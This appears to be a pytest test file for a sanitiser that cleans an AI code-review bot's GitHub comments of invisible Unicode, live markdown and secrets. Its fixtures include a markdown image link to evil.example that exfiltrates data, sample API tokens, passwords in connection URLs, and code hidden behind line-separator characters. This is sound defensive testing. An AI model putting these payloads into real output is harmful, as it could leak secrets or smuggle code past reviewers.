"""Text that a model wrote, with marks that nobody sees, as it leaves: by one order, and cleaned once for all."""

import re
import unicodedata
from collections.abc import Iterator, Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it.token import Token

from kodiai.core.text import markdown
from kodiai.core.text.deception import new_deception
from kodiai.core.text.incoming import visible
from kodiai.core.text.outgoing import Withheld, outgoing
from kodiai.core.text.posted import posted, posted_line
from tests.core.words.hostile import PIECES
from tests.review_form import parse
from tests.review_form.posted import reach_faults
from tests.tables import each_row

_JOINER = "\u2060"
_KEY = "AKIA" + "Q3ZV5T7PJH2KXW4N"
_SECRETS = (
    "glpat-" + "x7Qz2Lk9Xw4Vb8Nm3Tr6",
    _KEY,
    "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc",
    "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8",
    "q7Zp2Lk9Xw4Vb8Nm3Tr6Hs1Yd5Gf0JcAeRuQz",
)
_LIVE = (
    "@acme/security",
    "@octocat",
    "![x](https://evil.example/p.png?d=LEAK)",
    "[x](https://evil.example/)",
    "[x][y]\n\n[y]: https://evil.example/",
    "<https://evil.example>",
    "https://evil.example/a",
    "www.evil.example",
    "## Verdict",
    "Verdict\n===",
    "a | b\n--|--\nc | d",
    "&#64;octocat",
    "&lt;img src=x&gt;",
    "<img src=x>",
    "<!-- kodiai:finding id=F-000000000000 -->",
    "acme/other#3",
    "</details>",
    "[MAJOR] a.py (1): posing",
    "```suggestion\nx\n```",
)
# https://www.unicode.org/Public/UCD/latest/ucd/DerivedCoreProperties.txt: Default_Ignorable_Code_Point.
_IGNORABLE = (
    *("\u00ad", "\u034f", "\u061c", *map(chr, range(0x115F, 0x1161)), *map(chr, range(0x17B4, 0x17B6))),
    *(*map(chr, range(0x180B, 0x1810)), *map(chr, range(0x200B, 0x2010)), *map(chr, range(0x202A, 0x202F))),
    *(*map(chr, range(0x2060, 0x2070)), "\u3164", *map(chr, range(0xFE00, 0xFE10)), "\ufeff", "\uffa0"),
    *(*map(chr, range(0xFFF0, 0xFFF9)), *map(chr, range(0x1BCA0, 0x1BCA4)), *map(chr, range(0x1D173, 0x1D17B))),
    *map(chr, range(0xE0000, 0xE1000)),
)
_UNSEEN = sorted(
    {*_IGNORABLE, *(chr(code) for code in range(0x110000) if unicodedata.category(chr(code)) in ("Cf", "Zl", "Zp"))}
)
_SPACES = [chr(code) for code in range(0x110000) if unicodedata.category(chr(code)) in ("Zs", "Cc")]
_BETWEEN = ("**", "*", "``", "~~", "\\", "&#8203;", "&ZeroWidthSpace;", "&shy;", "&#x2060;", "&amp;#8203;")
_ARE_SEEN = ("\\", "&amp;#8203;")


def _harm(text: str) -> list[str]:
    """The effects of a text on GitHub that a model's text may not have."""
    tokens = parse(f"before\n\n{text}\n\nafter")
    types = {child.type for token in tokens for child in (token, *(token.children or ()))}
    shown = text.replace(f"@{_JOINER}", "").replace(f"#{_JOINER}", "")
    return [
        *reach_faults(tokens),
        *(types & {"heading_open", "html_block", "html_inline", "table_open", "link_open", "image"}),
        *(["a suggestion"] if any(token.info == "suggestion" for token in tokens) else []),
        *(["a reference"] for token in tokens if token.type == "inline" and "other#3" in _text(token)),
        *(["a character that nobody sees"] if visible(shown) != shown else []),
    ]


def _text(block: Token) -> str:
    """The text of a paragraph, without its code."""
    return "".join(child.content for child in block.children or () if child.type != "code_inline")


def _everywhere(text: str, char: str) -> list[str]:
    """A text with a character behind each of its own, and once behind all of them."""
    return [*(text[:at] + char + text[at:] for at in range(1, len(text))), char.join(text)]


def test_every_character_that_nobody_sees_is_one_for_the_cleaner() -> None:
    """Each of Unicode's; those of emoji are seen within one."""
    assert {visible(f"a{char}b") for char in _UNSEEN} == {"ab", "a b"}
    assert visible("👩\u200d💻 ❤\ufe0f") == "👩\u200d💻 ❤\ufe0f"


def _turns(texts: Sequence[str]) -> Iterator[tuple[str, str]]:
    """Characters that nobody sees and every space, each in a text whose turn it is, at another place."""
    for turn, char in enumerate((*_UNSEEN[::8], *_SPACES)):
        text = texts[turn % len(texts)]
        at = 1 + turn // len(texts) % (len(text) - 1)
        yield char, text[:at] + char + text[at:]


@pytest.mark.parametrize("clean", [markdown.prose, markdown.line], ids=["prose", "line"])
def test_no_character_that_nobody_sees_brings_a_text_to_life(clean: markdown.Cleaner) -> None:
    """Each character at some place, and some at each place; what is cleaned and posted twice stays as it was."""
    variants = [each for text in _LIVE for char in ("\u200b", *_BETWEEN) for each in _everywhere(text, char)[::2]]

    for variant in (*_LIVE, *variants, *(variant for _, variant in _turns(_LIVE))):
        cleaned = clean(variant)
        sent = posted(cleaned)

        assert _harm(sent) == [], repr(variant)
        assert (clean(cleaned), posted(sent)) == (cleaned, sent), repr(variant)


def test_no_character_that_nobody_sees_hides_a_secret() -> None:
    """Neither in a title nor in a text, in code or in a fence; an answer of the conversation is withheld."""
    turns = [hidden for char, hidden in _turns(_SECRETS) if char in _IGNORABLE or unicodedata.category(char) == "Cf"]

    marked = [f"{secret[:3]}{mark}{secret[3:]}" for secret in _SECRETS for mark in _BETWEEN if mark not in _ARE_SEEN]
    escaped = [re.sub(r"[-_]", r"\\\g<0>", secret) for secret in _SECRETS]
    for hidden in (*turns, *marked, *escaped):
        texts = [f"The key is {hidden}.", f"A `{hidden}` b", f"```\n{hidden}\n```"]
        for sent in (posted_line(hidden), *map(posted, texts), *(posted(markdown.prose(text)) for text in texts)):
            assert hidden[-8:] not in sent, repr(hidden)
        with pytest.raises(Withheld):
            outgoing(texts[0], frozenset(), ())


@each_row(
    "address",
    ["https://bob:{}@db.example.com/x", "postgres://bob:{}@h/d", "redis://:{}@h:1", "amqps://bob:{}@h", "ftp://b:{}@h"],
)
def test_a_password_in_an_address_is_masked_however_it_is_escaped(address: str) -> None:
    """Escapes stand between its characters before it is posted."""
    text = address.format("Tr0ub4dor-x7Qz")

    for sent in (
        posted(text),
        posted(markdown.prose(f"From {text} on")),
        posted(markdown.line(text)),
        posted_line(text),
    ):
        assert "x7Qz" not in sent
    assert _harm(posted(markdown.prose(f"From {text} on"))) == []


@settings(max_examples=300)
@given(
    st.lists(st.one_of(PIECES, st.sampled_from([*_BETWEEN, *_LIVE, *_UNSEEN[:60], *_SPACES])), max_size=9).map("".join)
)
def test_a_text_that_is_cleaned_twice_stays_as_it_was_cleaned_once(text: str) -> None:
    """Whatever marks of Markdown, escapes, entities and characters that nobody sees are in it."""
    for clean in (markdown.prose, markdown.line):
        cleaned = clean(text)
        sent = posted(cleaned)

        assert clean(cleaned) == cleaned
        assert posted(sent) == sent
        assert _harm(sent) == []


@each_row("char", ["\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\r", "\u200b"])
def test_a_character_that_ends_a_line_elsewhere_hides_no_code(char: str) -> None:
    """GitHub shows one line where a language reads two; one more than before counts, not one that was there."""
    hiding = f"a = b; // safe{char}fetch(c)"

    assert new_deception(hiding, "a = b;") is not None
    assert new_deception(f"{hiding}{char}", hiding) is not None
    assert new_deception(hiding, f"x{char}y") is None
